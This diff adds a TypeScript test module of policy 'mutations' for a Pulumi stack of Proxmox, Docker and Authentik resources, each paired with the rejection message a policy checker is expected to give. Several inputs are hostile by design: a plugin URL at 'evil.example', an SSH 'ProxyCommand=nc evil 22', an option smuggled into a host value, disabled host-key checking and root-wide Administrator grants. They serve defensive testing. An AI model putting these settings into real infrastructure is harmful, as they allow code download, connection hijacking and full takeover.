@@ -1,0 +1,267 @@
+import { types } from "../../../policies/types";
+import { notYetKnown, type TestResource } from "../harness";
+import { adding, find, rows, setting, type Mutation, type Row } from "./mutation";
+import { commandMutations } from "./commands";
+import { nameMutations } from "./names";
+import { secretMutations } from "./secrets";
+
+const vm = (inputs: Record<string, unknown>) => setting(types.virtualMachines[0], "tooling", inputs);
+const job = (inputs: Record<string, unknown>) => setting(types.backupJobs[0], "tooling-backup", inputs);
+const core = (inputs: Record<string, unknown>) => setting(types.container, "harbor-core", inputs);
+const docker = (inputs: Record<string, unknown>) => setting(types.dockerProvider, "tooling-docker", inputs);
+const health = (...tests: string[]) => core({ healthcheck: { tests } });
+const grant = (path: string, roleId: string) => adding(types.acls[0], { path, roleId, userId: "x@pve" });
+
+const unprotected =
+  (type: string, name: string) =>
+  (stack: TestResource[]): void =>
+    void (find(stack, type, name).protect = false);
+
+/** The provider's options with one changed, left out, or put before the others. */
+const sshOptions =
+  (change: (options: string[]) => string[]) =>
+  (stack: TestResource[]): void => {
+    const provider = find(stack, types.dockerProvider, "tooling-docker");
+    const { sshOpts } = provider.inputs as { sshOpts: string | string[] };
+    const options = typeof sshOpts === "string" ? (JSON.parse(sshOpts) as string[]) : sshOpts;
+    provider.inputs = { ...provider.inputs, sshOpts: JSON.stringify(change([...options])) };
+  };
+
+const replaced = (from: string, to: string) => sshOptions((all) => all.map((each) => (each === from ? to : each)));
+
+/** Everything but single containers' rights. */
+export const mutations: readonly Mutation[] = [
+  ...rows(
+    "known-types",
+    [
+      "a Swarm service",
+      adding("docker:index/service:Service"),
+      "no policy was written for the type docker:index/service:Service",
+    ],
+    ["a Docker plugin", adding("docker:index/plugin:Plugin"), "docker:index/plugin:Plugin"],
+    ["a Swarm secret", adding("docker:index/secret:Secret"), "docker:index/secret:Secret"],
+    ["a Swarm config", adding("docker:index/serviceConfig:ServiceConfig"), "docker:index/serviceConfig:ServiceConfig"],
+    ["a command on this computer", adding("command:local:Command"), "command:local:Command"],
+    ["a copied file", adding("command:remote:CopyToRemote"), "command:remote:CopyToRemote"],
+    ["an image of Proxmox's own", adding(types.ociImages[0]), "proxmoxve:oci/image:Image"],
+    ["another provider", adding("pulumi:providers:kubernetes"), "pulumi:providers:kubernetes"],
+    ["a dynamic resource", adding("pulumi-nodejs:dynamic:Resource"), "pulumi-nodejs:dynamic:Resource"],
+    ["a dynamic resource of another package", adding("pulumi-nodejs:dynamic/evil:Thing"), "dynamic/evil:Thing"],
+    ["a plugin from elsewhere", docker({ pluginDownloadURL: "https://evil.example/" }), "remove `pluginDownloadURL`"],
+  ),
+  ...rows(
+    "docker-over-ssh",
+    ["tcp", docker({ host: "tcp://192.168.1.60:2375" }), "tcp://192.168.1.60:2375; set `host` to ssh://"],
+    ["tls without a host key", docker({ host: "https://192.168.1.60:2376" }), "set `host` to ssh://user@address"],
+    ["a socket", docker({ host: "unix:///var/run/docker.sock" }), "set `host` to ssh://"],
+    ["no host", docker({ host: undefined }), "its Docker is none"],
+    ["the default provider", adding(types.dockerProvider, { version: "5.2.0" }), "its Docker is none"],
+    ["an option as host", docker({ host: "ssh://-oProxyCommand=x" }), "set `host` to ssh://"],
+    ["a context", docker({ context: "lan" }), "it sets `context`"],
+    ["certificates", docker({ certPath: "/root/.docker" }), "it sets `certPath`"],
+    [
+      "no host-key check",
+      replaced("StrictHostKeyChecking=yes", "StrictHostKeyChecking=no"),
+      "StrictHostKeyChecking no",
+    ],
+    [
+      "a first option that wins",
+      sshOptions((all) => ["-o", "StrictHostKeyChecking=no", ...all]),
+      "StrictHostKeyChecking no",
+    ],
+    [
+      "an option in another case",
+      sshOptions((all) => ["-o", "stricthostkeychecking=no", ...all]),
+      "stricthostkeychecking no",
+    ],
+    [
+      "an option in one word",
+      sshOptions((all) => ["-oStrictHostKeyChecking=no", "x", ...all]),
+      "-oStrictHostKeyChecking=no",
+    ],
+    ["an option that shifts the pairs", sshOptions((all) => ["-v", ...all]), "have -v -F"],
+    ["the user's own settings", sshOptions((all) => all.slice(2)), "have no -F"],
+    [
+      "known hosts of the user",
+      replaced("UserKnownHostsFile=/dev/null", "UserKnownHostsFile=/tmp/hosts"),
+      "/tmp/hosts",
+    ],
+    ["a proxy", sshOptions((all) => [...all, "-o", "ProxyCommand=nc evil 22"]), "ProxyCommand nc evil 22"],
+    ["a key of another host", docker({ host: "ssh://ops@192.168.1.61" }), "KnownHostsCommand /bin/echo 192.168.1.60"],
+    ["no options", docker({ sshOpts: undefined }), "have no StrictHostKeyChecking"],
+  ),
+  ...commandMutations,
+  ...nameMutations,
+  ...rows(
+    "pinned-images",
+    [
+      "text that mentions an image",
+      core({ image: "traefik:latest sha256" }),
+      '"traefik:latest sha256" can be another image',
+    ],
+    ["a tag beside the image", core({ image: "traefik:latest" }), '"traefik:latest" can be another image'],
+    [
+      "an image from two resources",
+      (stack) => {
+        const container = find(stack, types.container, "harbor-core");
+        container.inputs = { ...container.inputs, image: notYetKnown };
+        container.dependencies = { image: [...(container.dependencies?.image ?? []), "urn:of:a-command"] };
+      },
+      "its image is not known before the update",
+    ],
+    ["a clone", vm({ clone: { vmId: 9000 } }), "it begins as a clone of another guest"],
+    [
+      "an existing import file",
+      vm({ disks: [{ interface: "scsi0", importFrom: "local:import/mine.qcow2" }] }),
+      "local:import/mine.qcow2",
+    ],
+    ["an existing disk", vm({ disks: [{ interface: "scsi0", fileId: "local:iso/mine.img" }] }), "local:iso/mine.img"],
+    ["a drive", vm({ cdrom: { fileId: "local:iso/mine.iso" } }), "local:iso/mine.iso"],
+    [
+      "an OCI image by tag",
+      adding(types.ociImages[0], { reference: "docker.io/library/nginx:1" }),
+      "end `reference` with its digest",
+    ],
+  ),
+  ...rows(
+    "least-privilege",
+    ["a role of one's own on everything", grant("/", "Everything"), "it grants Everything on /"],
+    ["Administrator on everything", grant("/", "Administrator"), "it grants Administrator on /"],
+    ["everything in another spelling", grant("//", "PVEAdmin"), "it grants PVEAdmin on //"],
+    ["Administrator on accounts", grant("/access", "Administrator"), "with which one can get every other right"],
+    ["PVEUserAdmin on a realm", grant("/access/realm/pve", "PVEUserAdmin"), "with which one can get every other right"],
+    ["Administrator on guests", grant("/vms", "Administrator"), "every privilege there is"],
+    ["Administrator on a guest", grant("/vms/101", "Administrator"), "every privilege there is"],
+    ["Administrator on nodes", grant("/nodes", "Administrator"), "with which one can get every other right"],
+    ["PVESysAdmin on a node", grant("/nodes/pve-mon", "PVESysAdmin"), "with which one can get every other right"],
+    ["a role of one's own on all guests", grant("/vms", "Everything"), "nothing tells what that role may do"],
+    [
+      "a role with every right",
+      adding(types.roles[0], { roleId: "X", privileges: ["VM.Audit", "Permissions.Modify"] }),
+      "Permissions.Modify",
+    ],
+    [
+      "a role with unknown rights",
+      adding(types.roles[0], { roleId: "X", privileges: notYetKnown }),
+      "not known before the update",
+    ],
+  ),
+  ...rows(
+    "human-administrators",
+    [
+      "somebody in the built-in group",
+      adding(`${types.authentik}:GroupMembership`, { group: "authentik Admins", username: "anna" }),
+      "authentik Admins",
+    ],
+    [
+      "a stranger among the administrators",
+      adding(`${types.authentik}:GroupMembership`, { group: "admins", username: "svc" }),
+      "svc in admins would administer",
+    ],
+    [
+      "a service account among them",
+      (stack) => {
+        const user = stack.find((each) => each.type === `${types.authentik}:User` && each.inputs?.username === "anna");
+        if (user) user.inputs = { ...user.inputs, type: "service_account" };
+      },
+      "anna in admins would administer",
+    ],
+    [
+      "a group that is not known",
+      adding(`${types.authentik}:GroupMembership`, { group: notYetKnown, username: "x" }),
+      "its group is not known",
+    ],
+    [
+      "another group of superusers",
+      (stack) => {
+        stack.push({ type: `${types.authentik}:Group`, name: "bots", inputs: { name: "bots", superuser: true } });
+        return {
+          type: `${types.authentik}:GroupMembership`,
+          name: "added",
+          inputs: { group: "bots", username: "bot" },
+        };
+      },
+      "bot in bots would administer",
+    ],
+  ),
+  ...rows(
+    "backup-covered",
+    [
+      "a disk that is left out",
+      vm({ disks: [{ interface: "scsi0", backup: false }] }),
+      "its disk scsi0 is in no backup",
+    ],
+    ["an hour's retention", job({ pruneBackups: { "keep-hourly": "1" } }), "keeps backups for less than 48h"],
+    ["the last one alone", job({ pruneBackups: { "keep-last": "1" } }), "keeps backups for less than 48h"],
+    ["a schedule in the past", job({ schedule: "2020-01-01 02:30" }), "which does not come again and again"],
+    ["a schedule once a century", job({ schedule: "2099-12-31" }), "which does not come again and again"],
+    ["another node", job({ node: "pve-other" }), "runs on the node pve-other alone"],
+    ["a job of nothing", job({ vmids: [] }), "no backup job of this stack names it"],
+  ),
+  ...rows(
+    "memory-limits",
+    ["unlimited swap", core({ memorySwap: -1 }), "its swap is unlimited"],
+    ["more swap than memory", core({ memorySwap: 100_000 }), "its swap is more than its memory"],
+    ["no limit", core({ memory: undefined }), "it has no memory limit"],
+  ),
+  ...rows("ram-budget", [
+    "a system container with swap",
+    adding(types.systemContainers[0], { vmId: 170, nodeName: "pve-mon", memory: { dedicated: 512, swap: 4096 } }),
+    "the guests of pve-mon need 27 GiB",
+  ]),
+  ...rows(
+    "health-checks",
+    ...[
+      ["CMD", "true"],
+      ["CMD", "/bin/true"],
+      ["CMD-SHELL", "exit 0"],
+      ["CMD-SHELL", "curl -f localhost || true"],
+    ].map((tests): Row => [JSON.stringify(tests), health(...tests), "its health check can't fail"]),
+    ...[
+      ["CMD", "sh", "-c", "true"],
+      ["CMD-SHELL", ":"],
+      ["CMD-SHELL", "curl localhost; echo ok"],
+    ].map((tests): Row => [JSON.stringify(tests), health(...tests), "its health check can't fail"]),
+    [
+      "no check of what may end",
+      core({ mustRun: false, restart: "on-failure", healthcheck: undefined }),
+      "it has no health check",
+    ],
+  ),
+  ...rows("restart-policy", [
+    "what restarts and may end",
+    core({ mustRun: false, restart: "on-failure" }),
+    '"on-failure"',
+  ]),
+  ...rows(
+    "protected-state",
+    ["Authentik's key", unprotected(types.randomPassword, "authentik-secrets-key"), "it is a key of what is stored"],
+    ["Harbor's key", unprotected(types.randomPassword, "harbor-secrets-key"), "it is a key of what is stored"],
+    ["the root's key", unprotected(types.privateKey, "pki-authority-root-key"), "a key of the certificate authority"],
+    ["the VM", unprotected(types.virtualMachines[0], "tooling"), "a guest of Proxmox with its disk"],
+  ),
+  ...rows(
+    "address-plan",
+    [
+      "a port of another container",
+      core({ ports: [{ internal: 80, external: 8080, ip: "192.168.1.60" }] }),
+      "where the edge alone may be",
+    ],
+    [
+      "another port of the edge",
+      setting(types.container, "edge-traefik", { ports: [{ internal: 22, external: 22, ip: "192.168.1.60" }] }),
+      "which is none of its ports (80, 443)",
+    ],
+    [
+      "a name that begins like loopback",
+      core({ ports: [{ internal: 80, ip: "127.0.0.1.example.org" }] }),
+      "where the edge alone may be",
+    ],
+    [
+      "a network of the machine's own",
+      core({ networksAdvanced: [{ name: "lan" }] }),
+      "it joins the network lan, which is none of this stack",
+    ],
+  ),
+  ...secretMutations,
+];
